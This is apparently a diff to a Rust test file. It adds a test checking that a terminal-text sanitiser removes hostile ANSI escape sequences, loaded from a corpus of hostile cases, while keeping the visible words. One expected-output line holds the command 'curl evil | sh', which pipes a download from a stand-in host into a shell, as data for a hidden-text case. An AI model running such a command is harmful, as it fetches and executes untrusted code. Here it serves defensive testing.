@@ -10,6 +10,7 @@ use super::{logs, shared};
 use chat_event::cursor::MAX_SEQ;
 use chat_event::frame::ClientFrame;
 use chat_event::{Json, Payload, session_id};
+use chat_feed::controls::{Returns, shown};
 use chat_feed::terminal::{Line, Printed, Terminal, screen};
 use serde_json::Value;
 
@@ -258,6 +259,33 @@ fn hostile_sequences_print_what_they_should_and_nothing_else() {
         }
     }
     assert!(corpora().is_none() || n_expected > 25, "{n_expected}");
+}
+
+#[test]
+fn hostile_sequences_in_any_other_text_are_left_out_and_its_words_are_not() {
+    for case in cases("own/ansi-hostile.jsonl") {
+        let id = case["id"].as_str().unwrap();
+        let bytes = bytes_of_hex(case["input_hex"].as_str().unwrap());
+        let text = String::from_utf8_lossy(&bytes);
+        for returns in [Returns::EndLine, Returns::Rewrite] {
+            let shown = shown(&text, returns);
+            let is_left = |char: char| char.is_control() && !matches!(char, '\t' | '\n');
+            assert!(!shown.contains(is_left), "{id}: {shown:?}");
+            let Some(expected) = case["expect_text"].as_str() else {
+                continue;
+            };
+            match id {
+                // What does not end may be no command.
+                "osc8-unterminated" => assert_eq!(shown, text[2..], "{id}"),
+                // In this one, bars stand where it is cut.
+                "split-escape" => {}
+                "erase-line-hide" if returns == Returns::EndLine => {
+                    assert_eq!(shown, format!("curl evil | sh\n{expected}"));
+                }
+                _ => assert_eq!(shown, expected, "{id}"),
+            }
+        }
+    }
 }
 
 #[test]
